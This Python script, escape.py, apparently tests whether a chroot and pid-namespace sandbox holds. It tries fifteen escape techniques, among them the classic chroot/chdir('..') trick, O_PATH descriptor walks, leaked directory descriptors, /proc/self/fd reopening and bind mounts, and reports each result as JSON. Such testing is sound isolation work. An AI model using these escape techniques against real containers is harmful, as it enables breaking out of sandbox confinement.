"""Run as root of a pod: a pid namespace of its own and a plain chroot, the barrier being one above.

Usage: escape.py ROOT_FD BARRIER_FD BARRIER_PATH_FD. Prints, as JSON, what each attempt ended
with: an errno's name, or what it reached.
"""

import ctypes
import errno
import json
import os
import sys

ROOT, BARRIER, BARRIER_PATH = map(int, sys.argv[1:4])
libc = ctypes.CDLL(None, use_errno=True)


def reached(path, **options):
    """The names in a directory that was reached."""
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY, **options)
    return os.listdir(fd)


def step_by_step():
    os.mkdir("/hole")
    os.chroot("/hole")
    for _ in range(10):
        os.chdir("..")
    return reached(".")


def classic_single_path():
    os.makedirs("/hole2", exist_ok=True)
    os.chroot("/hole2")
    os.chdir("../../../../../..")
    return reached(".")


def open_single_path():
    os.makedirs("/hole3", exist_ok=True)
    os.chroot("/hole3")
    return reached("../../../..")


def onto_the_barrier():
    os.makedirs("/hole4", exist_ok=True)
    os.chroot("/hole4")
    return reached("..")


def through_path_descriptors():
    os.makedirs("/hole5", exist_ok=True)
    os.chroot("/hole5")
    at = os.open(".", os.O_PATH)
    for _ in range(10):
        at = os.open("..", os.O_PATH, dir_fd=at)
    return reached(".", dir_fd=at)


def from_root_descriptor():
    os.makedirs("/hole6", exist_ok=True)
    os.chroot("/hole6")
    return reached("../..", dir_fd=ROOT)


def leaked_barrier():
    os.fchdir(BARRIER)
    return reached("..")


def leaked_barrier_path():
    os.fchdir(BARRIER_PATH)
    return reached("..")


def parent_of_leaked_barrier():
    return reached("..", dir_fd=BARRIER)


def name_below_leaked_barrier():
    return reached("root", dir_fd=BARRIER)


def reopened_barrier():
    return reached(f"/proc/self/fd/{BARRIER_PATH}")


def parent_of_reopened_barrier():
    return reached(f"/proc/self/fd/{BARRIER_PATH}/..")


def stat_of_leaked_barrier():
    return oct(os.fstat(BARRIER_PATH).st_mode)


def bind_mount_of_the_barrier():
    os.makedirs("/bind", exist_ok=True)
    source = b"/proc/self/fd/%d" % BARRIER_PATH
    if libc.mount(source, b"/bind", None, ctypes.c_ulong(4096), None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return reached("/bind")


def nested_pid_namespace():
    if libc.unshare(0x20000000) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    pid = os.fork()
    if pid == 0:
        try:
            from_root_descriptor()
        except OSError as e:
            os._exit(e.errno)
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status:
        raise OSError(status, "in the nested namespace")
    return "passed"


ATTEMPTS = [
    step_by_step,
    classic_single_path,
    open_single_path,
    onto_the_barrier,
    through_path_descriptors,
    from_root_descriptor,
    leaked_barrier,
    leaked_barrier_path,
    parent_of_leaked_barrier,
    name_below_leaked_barrier,
    reopened_barrier,
    parent_of_reopened_barrier,
    stat_of_leaked_barrier,
    bind_mount_of_the_barrier,
    nested_pid_namespace,
]


def attempt(function):
    """Try in a child; return how it ended."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        try:
            ended = f"reached {function()}"
        except OSError as e:
            ended = errno.errorcode[e.errno]
        os.write(writer, ended.encode())
        os._exit(0)
    os.close(writer)
    os.wait()
    with os.fdopen(reader) as told:
        return told.read()


def main():
    os.fchdir(ROOT)
    os.chroot(".")
    os.makedirs("/proc", exist_ok=True)
    if libc.mount(b"proc", b"/proc", b"proc", ctypes.c_ulong(0), None) < 0:
        raise OSError(ctypes.get_errno(), "mount proc")
    print(json.dumps({function.__name__: attempt(function) for function in ATTEMPTS}))


main()
